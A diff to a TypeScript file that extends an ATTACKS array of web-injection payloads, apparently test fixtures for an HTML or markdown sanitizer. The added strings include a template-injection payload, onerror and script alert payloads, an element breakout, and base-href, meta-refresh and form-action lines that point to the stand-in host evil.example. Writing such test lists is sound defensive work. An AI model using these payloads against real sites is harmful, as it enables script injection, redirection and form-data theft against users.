@@ -57,4 +57,11 @@ export const ATTACKS: string[] = [
   "# <h1 onclick=alert(1)> {#id onclick=alert(1)}",
   "&lt;script&gt;alert(1)&lt;/script&gt;",
   "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "{{constructor.constructor('alert(1)')()}}",
+  "<base href=//evil.example>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<form action=//evil.example><button>go</button></form>",
+  "\u2028<script>alert(1)</script>\u2029",
+  "</textarea></title><img src=x onerror=alert(1)>",
+  ":<img src=x onerror=alert(1)>:",
 ]
